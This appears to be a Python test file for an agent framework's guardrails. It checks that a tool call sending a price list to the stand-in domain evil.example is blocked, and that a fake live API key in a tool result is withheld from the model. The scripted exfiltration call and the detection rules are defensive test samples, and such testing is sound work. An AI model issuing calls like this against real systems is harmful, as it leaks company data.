"""Tool guardrails: arguments judged before the tool runs (blocked: not run, the result says why in
words, pairing intact), results judged before the model reads them (withheld)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from tests.conftest import assert_pairing
from tests.guardrails.common import collect, result_of, rules, traced, verdicts
from tether import Agent, JsonlTracer, RunState, tool
from tether.events import ToolResultEvent
from tether.guardrails import Guardrail, Rule
from tether.messages import ToolMessage, text_of
from tether.testing import FunctionModel, Reply

EXFIL = Rule(r"evil\.example", 0.0, "exfiltration", "it sends data to a domain outside the company")
SECRET = Rule(r"sk-live-\w+", 0.0, "secret", "the result contains a live API key")


def last_tool_text(messages: list[Any]) -> str:
    results = [m for m in messages if isinstance(m, ToolMessage)]
    return text_of(results[-1:]) if results else ""


def test_blocked_arguments_do_not_run_the_tool_and_the_result_says_why(tmp_path: Path) -> None:
    sent: list[tuple[str, str]] = []

    @tool
    def send_email(to: str, body: str) -> str:
        """Send an email."""
        sent.append((to, body))
        return "sent"

    def fn(messages: list[Any], request: Any) -> Any:
        if any(isinstance(m, ToolMessage) for m in messages):
            return "I could not send the quote: " + last_tool_text(messages)[:40]
        return Reply(
            calls=(
                ("c1", "send_email", {"to": "drop@evil.example", "body": "the price list"}),
                ("c2", "send_email", {"to": "sales@ours.example", "body": "a lead"}),
            )
        )

    fm = FunctionModel(fn)
    state = RunState()
    events = collect(
        Agent(fm, tools=[send_email], middleware=[Guardrail(rules(EXFIL), stages=("tool_args",))]),
        "Email the price list",
        state=state,
        tracer=JsonlTracer(tmp_path),
    )
    r = result_of(events)

    assert r.status == "completed"  # the model reads why and answers
    assert sent == [("sales@ours.example", "a lead")]  # the blocked call never ran; the next one did
    assert_pairing(state.messages)
    blocked, allowed = [m for m in state.messages if isinstance(m, ToolMessage)]
    assert blocked.call_id == "c1" and blocked.status == "error"
    assert blocked.text == (
        f"Not run: the tool args guardrail 'guardrail' blocked this (exfiltration): "
        f"{EXFIL.rationale}. Do not try the same call again; tell the user what you could not do."
    )
    assert allowed.call_id == "c2" and allowed.text == "sent"
    # The model's next request carried the refusal in words.
    assert any(isinstance(m, ToolMessage) and m.text == blocked.text for m in fm.requests[-1].messages)
    results = [e for e in events if isinstance(e, ToolResultEvent)]
    assert [(e.call_id, e.ok) for e in results] == [("c1", False), ("c2", True)]
    assert [(v.stage, v.decision) for v in verdicts(events)] == [("tool_args", "block"), ("tool_args", "allow")]
    (line,) = [t for t in traced(tmp_path, r.run_id) if t["type"] == "guardrail" and t["decision"] == "block"]
    assert line["stage"] == "tool_args" and line["category"] == "exfiltration" and line["rationale"] == EXFIL.rationale
    assert state.intents == {}  # the blocked call left no intent behind: it did not start


def test_a_result_that_fails_its_check_is_withheld_from_the_model() -> None:
    runs: list[str] = []

    @tool(read_only=True)
    def read_config(name: str) -> str:
        """Read a configuration entry."""
        runs.append(name)
        return "PAYMENTS_KEY=sk-live-4f9a2b and region eu-west-1"

    def fn(messages: list[Any], request: Any) -> Any:
        if any(isinstance(m, ToolMessage) for m in messages):
            return "The configuration could not be shown."
        return Reply(calls=(("c1", "read_config", {"name": "payments"}),))

    fm = FunctionModel(fn)
    state = RunState()
    events = collect(
        Agent(fm, tools=[read_config], middleware=[Guardrail(rules(SECRET), stages=("tool_result",))]),
        "Show me the payments config",
        state=state,
    )
    r = result_of(events)

    assert r.status == "completed" and runs == ["payments"]  # it ran; what it said is withheld
    assert_pairing(state.messages)
    (result,) = [m for m in state.messages if isinstance(m, ToolMessage)]
    assert result.status == "error"
    assert result.text == (
        f"[The result of read_config was withheld: the tool result guardrail 'guardrail' "
        f"blocked this (secret): {SECRET.rationale}.]"
    )
    assert "sk-live" not in str(fm.requests[-1].messages)  # the model never read it
    assert "sk-live" not in state.model_dump_json()  # nor was it saved
    assert [(v.stage, v.decision, v.category) for v in verdicts(events)] == [("tool_result", "block", "secret")]


def test_tool_stages_leave_the_input_and_the_answer_alone() -> None:
    classifier = rules(EXFIL)
    fm = FunctionModel(lambda m, r: "drop@evil.example is not a customer of ours.")
    r = collect(
        Agent(fm, middleware=[Guardrail(classifier, stages=("tool_args", "tool_result"))]), "Who is drop@evil.example?"
    )
    assert result_of(r).status == "completed" and classifier.seen == []
